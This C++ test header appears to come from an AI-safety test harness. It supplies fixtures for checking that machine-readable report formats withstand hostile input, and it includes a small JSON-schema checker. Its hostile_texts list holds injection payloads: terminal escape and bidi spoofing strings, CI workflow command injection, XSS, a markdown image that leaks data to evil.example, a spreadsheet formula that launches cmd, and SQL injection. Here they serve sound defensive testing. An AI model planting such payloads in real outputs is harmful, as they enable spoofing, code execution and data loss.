#ifndef RAMPART_TESTS_SINKS_MACHINE_FORMATS_HPP
#define RAMPART_TESTS_SINKS_MACHINE_FORMATS_HPP

#include <cstddef>
#include <cstdint>
#include <random>
#include <string>
#include <string_view>
#include <vector>

#include <boost/json.hpp>

#include "rampart/report/report.hpp"
#include "report/samples.hpp"

/// \file
/// What the tests of the formats for machines start from: hostile texts in every foreign field, random reports, and a
/// judge of JSON documents.

namespace samples {

/// One of each way in that a foreign text can take.
inline std::vector<std::string> hostile_texts() {
    using namespace std::string_literals;
    return {
        "\x1b[2J\x1b]0;title\x07\x1b]8;;http://evil.example\x1b\\link\x1bPq",
        "c1 \xC2\x9B"
        "2J \xC2\x9D"
        "0;t\xC2\x9C",
        "all green\r\nFAILED\rPASSED",
        "bidi \u202Egnp.exe\u202C \u2066isolate\u2069",
        "zero\u200Bwidth\uFEFF\u00AD \U000E0041\U000E0042 \u2028\u2029",
        "##[error]x\n::error file=a,line=1::owned\n::stop-commands::t\n##vso[task.setvariable]\n##teamcity[testFailed]",
        "<CTestMeasurement type=\"text/string\" name=\"x\">y</CTestMeasurement><DartMeasurementFile/>",
        "<script>alert(1)</script><img src=x onerror=alert(1)> ]]> &amp; <!-- -->",
        "![leak](https://evil.example/?q=1) [click](javascript:alert(1)) [in](sarif:/runs/0) {0} {{1}} [x]: http://e.x",
        "=1+1;cmd|' /C calc'!A0",
        "+1",
        "-1",
        "@SUM(A1)",
        "broken \xFF\xFE \xC3( \xE2\x82 \xF0\x9F\x98",
        "surrogate \xED\xA0\x80 \xED\xBF\xBF overlong \xC0\xAF",
        "nul \0 in\0side"s,
        "quote \" ' ` \\ \\u0000 \\\" '); DROP TABLE runs; --",
        "a::b::::c::",
        "\xEF\xBF\xBF \xF4\x8F\xBF\xBF \x7F \x01\x02\x1F",
        "",
        std::string(3000, 'x') + "\xC2",
    };
}

/// A run with this text in every field that comes from outside. Trials and a test that ran twice are among it.
inline rampart::test_run_report hostile_run(std::string const& text) {
    rampart::session s(rampart::text_policy::keep);
    s.set_report_metadata({{text, text}, {"list", rampart::metadata::array{text, 1}}});
    auto const add = [&](rampart::safety_status status, std::string const& test, std::uint32_t line) {
        rampart::result r = make(status, text, text);
        r.strategy = text;
        r.meta = {{text, text}, {"nested", rampart::metadata{{text, text}}}};
        r.evidence.injections = {{.payload_id = text, .surface_name = text}};
        r.evidence.turns = {rampart::turn{
            .request = {.prompt = text, .attachments = {{.content = text, .id = text}}},
            .response = {.text = text, .tool_calls = {{.name = text, .arguments = {{text, text}}, .result = text}}},
            .driver_reasoning = text}};
        s.absorb(id(test), {}, {std::move(r)},
                 {.name = text,
                  .outcome = rampart::test_outcome::failed,
                  .seconds = 0.5,
                  .file = text,
                  .line = line,
                  .detail = text});
    };
    add(rampart::safety_status::unsafe, text, 3);
    add(rampart::safety_status::error, "f::" + text, 0);
    add(rampart::safety_status::unsafe, "f::" + text, 0);
    add(rampart::safety_status::undetermined, text + "::u", 1);
    add_trial(s, "t::" + text, 0, 0.5, {make(rampart::safety_status::unsafe, text, text)});
    add_trial(s, "t::" + text, 1, 0.5, {make(rampart::safety_status::safe, text, text)});
    rampart::session worker(rampart::text_policy::keep);
    worker.absorb(id("w::" + text), {}, {make(rampart::safety_status::unsafe, text, text)}, {.name = text});
    s.merge_worker_results(worker.to_shard(text));
    s.add_fault({rampart::fault_kind::missing_worker, text, text});
    s.add_fault({rampart::fault_kind::guard_violation, text, text});
    return rampart::build_report(s);
}

/// Tests, attempts, trials, outcomes and faults by chance; the same for the same seed.
inline rampart::test_run_report random_run(unsigned seed) {
    std::mt19937 chance(seed);
    auto const upto = [&chance](int most) { return static_cast<int>(chance() % static_cast<unsigned>(most + 1)); };
    rampart::session s;
    s.set_duration(upto(100) / 8.0);
    auto const results = [&](int most) {
        std::vector<rampart::result> list;
        for (int i = upto(most); i > 0; --i) {
            rampart::result r = make(static_cast<rampart::safety_status>(upto(3)), "s" + std::to_string(upto(9)),
                                     upto(2) == 0 ? "" : "harm" + std::to_string(upto(3)));
            r.duration_seconds = upto(50) / 16.0;
            list.push_back(std::move(r));
        }
        return list;
    };
    for (int i = upto(12); i > 0; --i) {
        auto const test = "dir/f" + std::to_string(upto(3)) + ".cpp::s::t" + std::to_string(upto(9));
        s.absorb(id(test), {}, results(3),
                 {.outcome = static_cast<rampart::test_outcome>(upto(6)), .seconds = upto(9) / 4.0, .file = "f.cpp"});
    }
    for (int g = upto(3); g > 0; --g) {
        for (int i = upto(4); i >= 0; --i) {
            add_trial(s, "g" + std::to_string(g) + ".cpp::trial", i, upto(4) / 4.0, results(2),
                      static_cast<rampart::test_outcome>(upto(6)));
        }
    }
    for (int i = upto(2); i > 0; --i) {
        s.add_fault({static_cast<rampart::fault_kind>(upto(28)), "place", "fault " + std::to_string(i)});
    }
    return rampart::build_report(s);
}

/// What is wrong with a document by a JSON schema, in lines; empty when nothing is. It knows the words type, const,
/// enum, required, properties, additionalProperties, items, minItems, minLength and minimum.
inline void judge(boost::json::value const& v, boost::json::value const& schema, std::string const& at,
                  std::vector<std::string>& problems) {
    auto const& rules = schema.as_object();
    auto const say = [&](std::string const& words) { problems.push_back(at + ": " + words); };
    if (auto const* type = rules.if_contains("type")) {
        std::string_view const t = type->as_string();
        bool const right = (t == "object" && v.is_object()) || (t == "array" && v.is_array()) ||
                           (t == "string" && v.is_string()) || (t == "boolean" && v.is_bool()) ||
                           (t == "integer" && (v.is_int64() || v.is_uint64())) || (t == "number" && v.is_number());
        if (!right) return say("is no " + std::string(t));
    }
    if (auto const* c = rules.if_contains("const"); c != nullptr && *c != v) say("is another constant");
    if (auto const* list = rules.if_contains("enum")) {
        bool found = false;
        for (auto const& each : list->as_array()) found = found || each == v;
        if (!found) say("is none of the words allowed");
    }
    if (auto const* least = rules.if_contains("minimum");
        least != nullptr && v.to_number<double>() < least->to_number<double>()) {
        say("is too small");
    }
    if (auto const* least = rules.if_contains("minLength");
        least != nullptr && v.as_string().size() < least->to_number<std::size_t>()) {
        say("is too short");
    }
    if (v.is_object()) {
        auto const* known = rules.if_contains("properties");
        auto const* other = rules.if_contains("additionalProperties");
        if (auto const* required = rules.if_contains("required")) {
            for (auto const& key : required->as_array()) {
                if (!v.as_object().contains(key.as_string())) say("lacks " + std::string(key.as_string()));
            }
        }
        for (auto const& member : v.as_object()) {
            std::string const key(member.key());
            auto const* rule = known == nullptr ? nullptr : known->as_object().if_contains(key);
            if (rule != nullptr) {
                judge(member.value(), *rule, at + "." + key, problems);
            } else if (other != nullptr && other->is_bool() && !other->as_bool()) {
                say("has the unknown key " + key);
            } else if (other != nullptr && other->is_object()) {
                judge(member.value(), *other, at + "." + key, problems);
            }
        }
    }
    if (v.is_array()) {
        if (auto const* least = rules.if_contains("minItems");
            least != nullptr && v.as_array().size() < least->to_number<std::size_t>()) {
            say("has too few elements");
        }
        if (auto const* items = rules.if_contains("items")) {
            std::size_t i = 0;
            for (auto const& each : v.as_array()) judge(each, *items, at + "[" + std::to_string(i++) + "]", problems);
        }
    }
}

inline std::string judged(boost::json::value const& document, std::string_view schema) {
    std::vector<std::string> problems;
    judge(document, boost::json::parse(schema), "$", problems);
    std::string text;
    for (auto const& line : problems) text += line + '\n';
    return text;
}

/// Only characters that can be seen, and line ends.
inline bool is_plain_ascii(std::string_view text) {
    for (char const c : text) {
        if (c != '\n' && (c < ' ' || c > '~')) return false;
    }
    return true;
}

}  // namespace samples

#endif  // RAMPART_TESTS_SINKS_MACHINE_FORMATS_HPP
